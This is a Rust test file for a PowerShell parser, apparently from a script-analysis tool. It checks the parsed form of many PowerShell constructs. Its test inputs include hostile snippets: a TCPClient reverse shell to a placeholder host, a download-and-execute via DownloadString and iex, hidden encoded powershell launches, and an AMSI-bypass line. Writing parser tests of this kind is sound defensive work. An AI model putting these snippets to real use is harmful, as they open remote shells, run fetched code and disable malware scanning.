use super::*;
use crate::parse::script::shell::dump;

/// Statements, then problems.
fn dumped(text: &str) -> String {
    let tree = read(text);
    let mut out = dump::script(&tree);
    for (at, what) in &tree.problems {
        out.push_str(&format!("\n! {at} {what}"));
    }
    out
}

#[track_caller]
fn check(cases: &[(&str, &str)]) {
    for (text, expected) in cases {
        assert_eq!(dumped(text), *expected, "{text}");
    }
}

#[test]
fn strings() {
    check(&[
        ("", ""),
        ("'a''b'; \"c\"\"d`n`$x`u{41}\"", "\"a'b\"\n\"c\\\"d\\n$xA\""),
        ("\"$x.y $($x.y) ${a b} $env:Temp\\k $true $\"", r#"<x ".y " x.y " " a b " " env.TEMP "\\k " true " $">"#),
        ("$x = @'\nraw $x\n'@ + @\"\nhi $x\n\"@", r#"(let x (Add "raw $x" <"hi " x>))"#),
        ("“a$x” + ‘b’", r#"(Add <"a" x> "b")"#),
        ("@''@", "\"\"\n! 0 a sign that fits nowhere\n! 3 a sign that fits nowhere"),
    ]);
}

#[test]
fn commands() {
    check(&[
        ("I`E`x \"a\"; IEX (gc f)", "\"iex\"(\"a\")\n\"iex\"(\"gc\"(\"f\"))"),
        (
            "& $cmd -Foo:1 bar, baz; . .\\Lib.ps1; &('i'+'ex') $z",
            "cmd(\"-foo\" \"1\" [\"bar\" \"baz\"])\n\".\\\\lib.ps1\"()\n(Add \"i\" \"ex\")(z)",
        ),
        ("powershell.exe -NoP -W Hidden -Enc JABz", r#""powershell.exe"("-nop" "-w" "Hidden" "-enc" "JABz")"#),
        ("curl.exe -O $env:TEMP\\a.exe", r#""curl.exe"("-O" <env.TEMP "\\a.exe">)"#),
        (
            "a | % { $_ } | ? Name -eq x",
            r#""where-object"("Name" "-eq" "x" stdin="foreach-object"((func () {(return _)}) stdin="a"()))"#,
        ),
        (
            "a 2>&1 > $f; b 2>$null; c *> d; e >> g",
            "redirect(\"a\"(silent=true) f)\n\"b\"(silent=true)\nredirect(\"c\"() \"d\")\nredirect(\"e\"() \"g\" append=true)",
        ),
        ("7z x f; a && b; c &", "\"7z\"(\"x\" \"f\")\n(And \"a\"() \"b\"())\n\"c\"(background=true)"),
        ("icacls --% a \"b c\" | d", r#""d"(stdin="icacls"("a" "\"b" "c\""))"#),
        (
            "New-Object Net.Sockets.TCPClient('h.invalid', 4)",
            r#""new-object"("Net.Sockets.TCPClient" ["h.invalid" 4])"#,
        ),
        ("foo @args `\n -b", r#""foo"(*args "-b")"#),
    ]);
}

#[test]
fn expressions() {
    check(&[
        ("[System.Convert]::FromBase64String('aA==').Length", r#"system.convert.frombase64string("aA==").length"#),
        ("[char]65 + [char] 66; [int[]]$x; [type]", "(Add [char](65) [char](66))\n[int[]](x)\ntype"),
        (
            "-join (65..90 | % { [char]$_ })",
            "-join(\"foreach-object\"((func () {(return [char](_))}) stdin=..(65 90)))",
        ),
        ("$env:ComSpec[4,15,25] -join ''", r#"-join(env.COMSPEC[[4 15 25]] "")"#),
        (
            "'{0}{1}' -f 'a','b'; 'a-b' -split '-',2; 'x' -creplace 'a','b'",
            "-f(\"{0}{1}\" \"a\" \"b\")\n-split(\"a-b\" \"-\" 2)\n-replace(\"x\" \"a\" \"b\")",
        ),
        (
            "$a -bxor 3 -band 0xff -shl 1; !$a -and -not $b; $a -notcontains $b",
            "(BitAnd (BitXor a 3) (Shl 255 1))\n(And (Not a) (Not b))\n(NotIn b a)",
        ),
        ("1,2 + 3; 1kb; -5..-1; $a ? 1 : 2; $a ?? 1", "(Add [1 2] 3)\n1024\n..(-5 -1)\n(a ? 1 : 2)\n(Coalesce a 1)"),
        (
            "$x.\"Do`wn\"('u'); $x.$m(); $x.('a'+'b').c; [a]::new(1)",
            "x.down(\"u\")\nx[m]()\nx[(Add \"a\" \"b\")].c\nnew a(1)",
        ),
        ("@{ A = 1; 'B' = 2, 3 }; @(1); @(1, 2); @(a); @()", "#{\"a\" 1 \"B\" [2 3]}\n[1]\n[1 2]\n\"a\"()\n[]"),
    ]);
}

#[test]
fn assignments_know_whose_variable_it_is() {
    check(&[
        (
            "$x = $y = 1; $x += 2; $x++; $z = $x++ + 1",
            "(let x (let y 1))\n(let x (Add x 2))\n(let x (Add x 1))\n(let z (Add (Sub (let x (Add x 1)) 1) 1))",
        ),
        (
            "function f { $x = 1; $script:y = 2; % { $z = 3 } }",
            "(func f() {(let x 1); (= y 2); (return \"foreach-object\"((func () {(= z 3)})))})",
        ),
        (
            "$a, $b = 1, 2; $env:X = 1; $o.P = 2; [byte[]]$q = 0..3",
            "(let [a b] [1 2])\n(= env.X 1)\n(= o.p 2)\n(let q [byte[]](..(0 3)))",
        ),
        (
            "$x = foreach ($i in 1..3) { [char]$i }; $y = if ($a) { 1 } else { 2 }",
            "(let x (comp [char](i) (clause i ..(1 3) _)))\n(let y (a ? 1 : 2))",
        ),
    ]);
}

#[test]
fn statements() {
    check(&[
        ("if ($a -eq 1) { b } elseif (c) { d } else { e }", r#"(if (Eq a 1) {"b"()} (if "c"() {"d"()} {"e"()}))"#),
        (
            "for ($i = 0; $i -lt 3; $i++) { a }; foreach ($x in $y) { b }",
            "{(let i 0); (while (Lt i 3) {\"a\"()} (let i (Add i 1)))}\n(for x y {\"b\"()})",
        ),
        (
            "while (1) { break }; do { a } until ($b); do { a } while ($b)",
            "(while 1 {break} _)\n(do {\"a\"()} (Not b))\n(do {\"a\"()} b)",
        ),
        ("switch ($x) { 'a' { 1 } default { 2 } }", r#"(switch x (case "a" {1; break}) (case _ {2; break}))"#),
        ("try { a } catch [X] { throw $_ } finally { b }", r#"(try {"a"()} {(let _ (?)); (throw _)} {"b"()})"#),
        (
            "function Get-X([string]$A, $b = 1) { if ($a) { return $b } else { 'z' } }",
            r#"(func get-x(a b=1) {(if a {(return b)} {(return "z")})})"#,
        ),
        (
            "[CmdletBinding()] param([Parameter(Mandatory)] [string] $U = 'u')\nfunction f { param($q) process { $_ } }",
            "(let u \"u\")\n(func f(q) {{(return _)}})",
        ),
        (
            "class A : B { [int]$x = 1; [void] M($y) { $this.x = $y } }",
            "(class a [b] {(let x 1); (func m(y) {(= this.x y)})})",
        ),
        ("using module Foo; <# c #> # d\nexit 0", "(import \"Foo\" \"\" \"\")\n\"exit\"(\"0\")"),
    ]);
}

#[test]
fn what_is_broken_is_told_and_the_rest_is_read() {
    check(&[
        ("} a", "\"a\"()\n! 0 something is closed here that was not opened"),
        ("if ($a) { b", "(if a {\"b\"()} _)\n! 11 `}` is missing"),
        ("'a", "\"a\"\n! 0 a single quote is never closed"),
        ("a $(b", "\"a\"(\"b\"())\n! 5 `)` is missing"),
    ]);
}

/// A bit of everything.
const SAMPLE: &str = r###"param([string]$Url = "http://x.invalid", [switch]$q)
$x = 'a''b' + "c $x $($y.Z) `n ${w} $env:Temp\k"
iex (New-Object Net.WebClient).DownloadString("http://x.invalid/a")
& $cmd -Foo bar; . .\lib.ps1 -a:$b; &("i"+"ex") $z
$s = [System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGk='))
$c = [char]65 + [char] 66; [string]::Join('', ('a','b'))
-join (65..90 | % { [char]$_ })
$k = $env:ComSpec[4,15,25] -join ''
powershell -NoP -w hidden -Enc JABzAA==
function Get-It($a, [int]$b = 2) { $t = $a -bxor $b; if ($t) { return 1 } else { "z" } }
foreach ($i in 1..3) { Write-Host $i } ; for ($i=0; $i -lt 3; $i++) { $x += $i }
$h = @{ Name = 'v'; "B" = (1,2); c = { $_ } }
$out = foreach ($b in $bytes) { [char]($b -bxor 35) }
"{0}{1}" -f 'a','b' | iex
try { a } catch [System.Exception] { $_ } finally { b }
switch ($x) { 'a' { 1 } default { 2 } }
i`e`x "a" > $env:TEMP\f.txt 2>&1
$y = @'
raw $x
'@ -replace 'r','w'
Get-Content f | Where-Object { $_ -like '*x*' } | ForEach-Object { $_.Trim() } >> out
$client = New-Object System.Net.Sockets.TCPClient('h.invalid',4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0}
while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$stream.Flush()}
Invoke-WebRequest -Uri $u -OutFile "$p\a.exe" @args; Start-Process $env:TEMP\a.exe
[Ref].Assembly.GetType('System.Management.Automation.'+$("Am"+"si")+'Utils').GetField('x','NonPublic,Static').SetValue($null,$true)
$a,$b = 1,2; $x::y; [Net.ServicePointManager]::SecurityProtocol = 3072; !$x -and -not $y
Set-Variable -Name v -Value {a}; 7z x f; "a".Replace('b','c').("sub"+"string")(1)
do { $i-- } until ($i -eq 0)
cmd.exe /c "dir" | Out-Null; $x ??= 1; $x = if ($a) { 1 } else { 2 }
"###;

#[test]
fn broken_scripts_are_survived() {
    crate::parse::script::shell::survive::survive(read, "", &[SAMPLE]);
}
